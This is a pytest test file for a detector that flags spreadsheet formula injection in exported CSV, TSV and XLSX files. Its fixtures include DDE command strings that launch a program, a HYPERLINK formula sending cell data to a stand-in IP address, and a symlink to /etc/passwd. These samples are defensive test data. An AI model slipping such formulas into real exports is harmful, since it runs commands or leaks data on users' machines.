"""Files that leave: what a spreadsheet would run is told of, and plain numbers and signs are not."""

import os
import sys
import time

import openpyxl
import pandas
import pytest

sys.path.insert(0, os.path.dirname(os.path.dirname(os.path.abspath(__file__))))
from ba_worker import leaving  # noqa: E402


@pytest.fixture(autouse=True)
def folder(tmp_path):
    os.chdir(tmp_path)


def counts(before):
    return {note["values"]["file"]: note["values"]["count"] for note in leaving.notes(before)}


def test_cells_of_a_csv_that_a_spreadsheet_would_run_are_counted():
    before = leaving.state()
    pandas.DataFrame({"a": ["=1+1", "+cmd|' /C calc'!A0", "-2+3*x", "@SUM(A1)", "\tx", "＝1"], "b": ["-5", "+3.2", "-1,234.50", "-", "--", "plain"]}).to_csv("a.csv", index=False)
    pandas.DataFrame({"phone": ["+86 138 0000 0000"], "rate": ["-5%"]}).to_csv("fine.csv", index=False)
    pandas.DataFrame({"=h": ["x"]}).to_csv("b.tsv", sep="\t", index=False)
    assert counts(before) == {"a.csv": 6, "b.tsv": 1}
    [note, _] = leaving.notes(before)
    assert note["level"] == "warn" and note["values"]["example"] == "=1+1"


def test_only_new_and_changed_files_are_looked_at():
    pandas.DataFrame({"a": ["=1"]}).to_csv("old.csv", index=False)
    before = leaving.state()
    assert counts(before) == {}
    time.sleep(0.01)
    pandas.DataFrame({"a": ["=1", "=2"]}).to_csv("old.csv", index=False)
    assert counts(before) == {"old.csv": 2}


def test_formulas_that_reach_out_or_over_no_cell_are_warned_of_and_the_others_told():
    before = leaving.state()
    book = openpyxl.Workbook()
    for cell, text in {"A1": "=SUM(B1:B9)", "A2": '=HYPERLINK("http://192.0.2.1/?"&B1)', "A3": "=cmd|'/C calc'!A0", "A4": "=IF(A1>0,1,0)", "A5": "=1+1"}.items():
        book.active[cell] = text
    book.save("a.xlsx")
    live, inside = leaving.notes(before)
    assert (live["code"], live["level"], live["values"]["count"]) == ("formula_cells", "warn", 3)
    assert (inside["code"], inside["level"], inside["values"]["count"], inside["values"]["example"]) == ("formulas_inside", "step", 2, "=SUM(B1:B9)")


def test_text_that_begins_like_a_formula_stays_text_in_a_workbook_of_pandas():
    before = leaving.state()
    pandas.DataFrame({"a": ["=1+1", "-x", "@y"]}).to_excel("a.xlsx", index=False, engine="xlsxwriter", engine_kwargs={"options": {"strings_to_formulas": False}})
    assert leaving.notes(before) == []


def test_what_cannot_be_read_is_left_to_whoever_opens_it():
    before = leaving.state()
    with open("a.xlsx", "wb") as file:
        file.write(b"PK no zip")
    with open("a.csv", "wb") as file:
        file.write(b"\xff\xfe\0\0" * 100)
    os.symlink("/etc/passwd", "b.csv")
    assert counts(before) == {}
